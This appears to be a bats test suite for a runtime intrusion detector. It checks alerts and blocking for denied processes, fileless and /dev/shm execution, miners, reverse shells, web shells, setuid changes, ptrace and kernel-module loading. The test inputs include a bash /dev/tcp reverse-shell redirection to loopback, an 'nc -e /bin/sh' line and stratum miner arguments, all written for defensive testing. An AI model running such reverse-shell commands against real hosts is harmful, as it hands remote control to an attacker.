#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# The detections of programs and of what they ask the kernel for: the real
# thing, in alert and in prevent, and its harmless twin.
# shellcheck disable=SC2016,SC2154 # of detect_setup; for the shells of others

bats_require_minimum_version 1.5.0
load ../cli/wrap
load detect

setup() {
	detect_setup
}

teardown() {
	wrap_teardown
	[[ -z ${shm:-} ]] || rm -r "$shm"
}

# program NAME...: copies of echo(1) under that name
program() {
	local name
	for name; do
		cp /bin/echo "$bin/$name"
	done
	rested
}

old='.processes.skipModified = true'

@test "denied-process: by name, path, argv[0], as a script, by an interpreter" {
	local denied
	program denied
	printf '#!/bin/sh\necho did\n' >"$bin/script"
	cp "$bin/script" "$bin/fine"
	chmod +x "$bin/script" "$bin/fine"
	rested
	denied='.processes.blacklist = ["denied", "script", "'$bin/other'"]'
	detect denied-process "$denied" "$bin/denied" did -- "$bin/tool" did
	detect denied-process "$denied" "$bin/other" did -- "$bin/tool" other did
	detect denied-process "$denied" bash -c 'exec -a denied "$0" did' \
		"$bin/tool" -- bash -c 'exec -a fine "$0" did' "$bin/tool"
	detect denied-process "$denied" "$bin/script" -- "$bin/fine"
	detect denied-process "$denied" sh "$bin/script" -- sh "$bin/fine"
	detect denied-process "$denied" busybox sh -c 'denied did || exec "$0" did' \
		"$bin/denied" -- busybox sh -c '"$0" did' "$bin/tool"
}

@test "not-allowed-process: what is not on the list" {
	local allowed
	allowed='.processes.whitelist = ["/usr/bin/dash", "tool", "bash"]'
	detect not-allowed-process "$allowed" "$bin/other" did -- "$bin/tool" did
	detect not-allowed-process "$allowed" bash -c 'exec -a tool "$0" did' \
		"$bin/other" -- bash -c 'exec -a other "$0" did' "$bin/tool"
}

@test "process-rule: by name, path, arguments, parent, ancestor, user, sha256" {
	local sum as=(setpriv --reuid=65534 --clear-groups)
	program third
	rule process '{name: "tool"}' "$bin/tool" did -- "$bin/other" did
	rule process "{path: \"$bin/*l\"}" "$bin/tool" did -- "$bin/other" did
	rule process '{name: "tool", args: "^[^ ]+ --evil( |=)[0-9]+"}' \
		"$bin/tool" "--evil=1 did" -- "$bin/tool" --evil did
	rule process '{name: "tool", parent: "bash"}' \
		bash -c 'exec 2>/dev/null; "$0" did; :' "$bin/tool" -- \
		bash -c 'sh -c "\"\$0\" did; :" "$0"; :' "$bin/tool"
	rule process '{name: "tool", fromSource: "/usr/bin/bash"}' \
		bash -c 'sh -c "\"\$0\" did; :" "$0"; :' "$bin/tool" -- \
		sh -c '"$0" did; :' "$bin/tool"
	rule process '{name: "tool", uid: [1, 65534]}' \
		"${as[@]}" "$bin/tool" did -- "$bin/tool" did
	echo >>"$bin/other"
	rested
	sum=$(sha256sum "$bin/other" | cut -d ' ' -f 1)
	rule process "{sha256: \"$sum\"}" "$bin/other" did -- "$bin/tool" did
	# The first rule that holds decides: an allowed one ends the lists, too.
	policy '.processes.whitelist = ["/usr/bin/dash"] | .processes.rules = [
		{name: "tool", args: " ok ", effect: "allow"},
		{name: "tool", effect: "prevent"}]'
	observe "$bin/tool" ok did
	did
	silent
	observe "$bin/tool" bad did
	did_not
	event "$tmp/audit" '.rule.id == "process-rule" and .action == "prevent"'
}

@test "any-process: anything but the first program" {
	detect any-process '.processes.blockAllBinaries = true' \
		"$bin/tool" did -- eval 'echo did'
}

@test "modified-process: a program that was brought after the start" {
	local m=$tmp/made
	detect modified-process . sh -c 'cp "$0" "$1" && "$1" did' \
		"$bin/tool" "$m/new" -- \
		sh -c 'cp "$0" "$1" && "$0" did' "$bin/tool" "$m/new"
	# The name is old, and so is the time that touch(1) sets.
	detect modified-process . sh -c 'cp "$0" "$1"
		echo >>"$1"; touch -d 2001-01-01 "$1"; "$1" did' \
		"$bin/tool" "$m/b" -- \
		sh -c 'cp "$0" "$1"; touch -d 2001-01-01 "$1"; cat "$1" >/dev/null
		"$0" did' "$bin/tool" "$m/b"
	# Programs on a volume are the business of others.
	mkdir "$tmp/volume"
	policy .
	ETC='' observe unshare -m sh -c 'mount -t tmpfs none "$1"
		cp "$0" "$1/x"; "$1/x" did' "$bin/tool" "$tmp/volume"
	[[ $ids == "mount namespace tmpfs-process" ]]
}

@test "fileless-process: memory, or a file that is gone" {
	detect fileless-process "$old" sh -c '"$0" memfd && echo did' "$act" -- \
		"$act" exec-fd "$bin/tool" did
	detect fileless-process "$old" sh -c 'cp "$1" "$2"
		"$0" deleted "$2" did' "$act" "$bin/tool" "$tmp/made/x" -- \
		sh -c 'cp "$1" "$2"; "$2" did; rm "$2"' "$act" "$bin/tool" \
		"$tmp/made/x"
}

@test "tmpfs-process: a program in /dev/shm" {
	shm=$(mktemp -d /dev/shm/fg-detect.XXXXXX)
	cp /bin/echo "$shm/x"
	rested
	detect tmpfs-process . "$shm/x" did -- \
		sh -c 'cat "$0" >/dev/null && "$1" did' "$shm/x" "$bin/tool"
}

@test "loader-exec: the loader runs a program, or only lists" {
	local loader
	loader=$(sed 's/\x0/\n/g' /bin/echo | grep -am1 '^/lib.*ld-')
	detect loader-exec '.detections["loader-exec"] = "alert"' \
		"$loader" "$bin/tool" did -- \
		sh -c "$loader --list $bin/tool && echo did"
}

@test "crypto-miner: by name, and by arguments" {
	program xmrig
	detect crypto-miner . "$bin/xmrig" did -- "$bin/tool" did
	detect crypto-miner . "$bin/tool" -o stratum+tcp://pool:3333 did -- \
		"$bin/tool" -o http://pool:3333 did
	detect crypto-miner . "$bin/tool" --donate-level=1 did -- \
		"$bin/tool" --donate did
	# Who looks for it is none.
	echo 'did stratum+tcp://' >"$tmp/words"
	detect crypto-miner . "$bin/tool" --url=stratum2+tcp://x did -- \
		grep stratum+tcp:// "$tmp/words"
}

@test "reverse-shell: a shell at the end of a connection" {
	detect reverse-shell . "$act" remote /bin/sh -c 'echo did' -- \
		"$act" remote /bin/echo did
	detect reverse-shell . "$act" remote /bin/bash -c 'echo did' -- \
		"$act" socketpair /bin/bash -c 'echo did'
	# By a shell that is there already; and looks at a port, as of health checks.
	detect reverse-shell . \
		"$act" serve 127.0.0.1 5000 /bin/bash -c \
		'exec 3<>/dev/tcp/127.0.0.1/5000; exec 0<&3; exec 2>&3 && echo did' -- \
		"$act" serve 127.0.0.1 5000 /bin/bash -c \
		'</dev/tcp/127.0.0.1/5000 && : >/dev/tcp/127.0.0.1/5000 && echo did'
	detect reverse-shell . \
		"$act" serve 127.0.0.1 5000 /bin/bash -c \
		'exec 3<>/dev/tcp/127.0.0.1/5000; exec 0<&3 2>&3 && echo did' -- \
		"$act" serve 127.0.0.1 5000 /bin/bash -c \
		'exec 3<>/dev/tcp/127.0.0.1/5000; echo GET >&3; head -c0 <&3; echo did'
	program nc ncat
	detect reverse-shell '.detections["network-tool"] = "disable"' \
		"$bin/nc" -e /bin/sh 192.0.2.1 did -- "$bin/nc" -z 192.0.2.1 did
}

@test "web-shell: a server starts a shell" {
	cp "$act" "$bin/nginx"
	rested
	detect web-shell . "$bin/nginx" run /bin/sh -c 'echo did' -- \
		"$bin/nginx" run /bin/echo did
	detect web-shell . "$bin/nginx" run /bin/bash -c 'echo did' -- \
		"$act" run /bin/bash -c 'echo did'
}

@test "setuid-process: rights by a file, and by setuid(2)" {
	local as=(setpriv --reuid=65534 --clear-groups)
	program raised
	chmod 4755 "$bin/raised"
	rested
	detect setuid-process . "${as[@]}" "$bin/raised" did -- \
		"${as[@]}" "$bin/tool" did
	# Of root nothing is gained.
	detect setuid-process . "${as[@]}" "$bin/raised" did -- \
		"$bin/raised" did
	detect setuid-process . "$act" become-root -- "$act" give-root-up
}

@test "setuid-file: modes and capabilities" {
	local m=$tmp/made
	detect setuid-file . sh -c ': >"$1"; "$0" setuid "$1"' "$act" "$m/x" -- \
		sh -c ': >"$1"; "$0" chmod 755 "$1"' "$act" "$m/x"
	detect setuid-file . \
		sh -c ': >"$1"; "$0" chmod 2755 "$1"' "$act" "$m/x" -- \
		sh -c '"$0" mkdir "$1"; "$0" chmod 2775 "$1"' "$act" "$m/x"
	detect setuid-file . sh -c ': >"$1"; "$0" caps "$1"' "$act" "$m/x" -- \
		sh -c ': >"$1"; "$0" append "$1"' "$act" "$m/x"
}

@test "package-manager: what changes the container, not what looks" {
	program apt-get apk pip dpkg
	detect package-manager . "$bin/apt-get" -y install did -- \
		"$bin/apt-get" -y download did
	detect package-manager . "$bin/apk" add did -- "$bin/apk" info did
	detect package-manager . "$bin/pip" install did -- "$bin/pip" list did
	detect package-manager . "$bin/dpkg" -i did -- "$bin/dpkg" -l did
}

@test "network-tool and lateral-movement" {
	program nmap curl kubectl sshd
	detect network-tool . "$bin/nmap" did -- "$bin/curl" did
	detect lateral-movement . "$bin/kubectl" did -- "$bin/sshd" did
	detect lateral-movement . sh -c 'ssh -V && echo did' -- \
		sh -c 'ssh-keygen --help; echo did'
}

@test "ptrace: another process is traced, or written to" {
	detect ptrace . "$act" vm-write -- "$act" vm-write-own
	# Who is traced cannot be traced again, but the try is told.
	policy .
	observe "$act" ptrace
	[[ $ids == ptrace ]]
}

@test "mount, namespace" {
	mkdir "$tmp/mnt"
	detect mount . "$act" mount "$tmp/mnt" -- \
		sh -c 'cat /proc/mounts >/dev/null && df / >/dev/null && echo did'
	detect namespace . "$act" unshare -- sh -c '(echo did)'
}

@test "kernel-module, bpf: code for the kernel" {
	detect kernel-module . "$act" module -- \
		sh -c 'cat /proc/modules /proc/version >/dev/null; echo did'
	detect bpf . "$act" bpf -- "$act" vm-write-own
	detect bpf . "$act" perf -- "$act" vm-write-own
}

@test "io_uring and other ABIs are refused in any case, and told of" {
	local action
	policy .
	for action in io_uring:io-uring int80:foreign-abi; do
		[[ $action != int80:* || $(uname -m) == x86_64 ]] || continue
		observe "$act" "${action%:*}"
		echo "$action: $ids $got"
		[[ $ids == "${action#*:}" && $got == *"refused ENOSYS"* ]]
		event "$tmp/audit" '.kind == "runtime" and .action == "prevent"'
	done
	observe "$act" vm-write-own
	did
	silent
}

@test "defender-attack: its processes, not those of others" {
	policy .
	observe sh -c 'read -r _ _ _ ppid _ </proc/$PPID/stat
		"$0" kill "$ppid"' "$act"
	echo "$ids $got"
	[[ $ids == defender-attack && $got == *"refused EPERM"* ]]
	observe "$act" kill-own
	did
	silent
}

@test "a custom rule prevents by arguments, and by what it is not" {
	local effect
	for effect in alert prevent; do
		policy '.customRules = [{name: "ours", effect: "'$effect'",
			script: "proc.name = \"tool\" and proc.cmdline matches \" -x [0-9]+$\" and not proc.uid in (7, 8)",
			message: "%proc.name %proc.cmdline", attackTechniques: ["T1059.004"]}]'
		observe "$bin/tool" -x 12
		echo "$effect: $ids $got"
		[[ $ids == custom-rule ]]
		event "$tmp/audit" ".action == \"$effect\" and
			.rule.name == \"ours\" and .attack == [\"T1059.004\"] and
			(.msg | startswith(\"tool \"))"
		observe "$bin/tool" -x did
		did
		silent
		observe setpriv --reuid=7 --clear-groups "$bin/tool" -x 12
		silent
	done
}
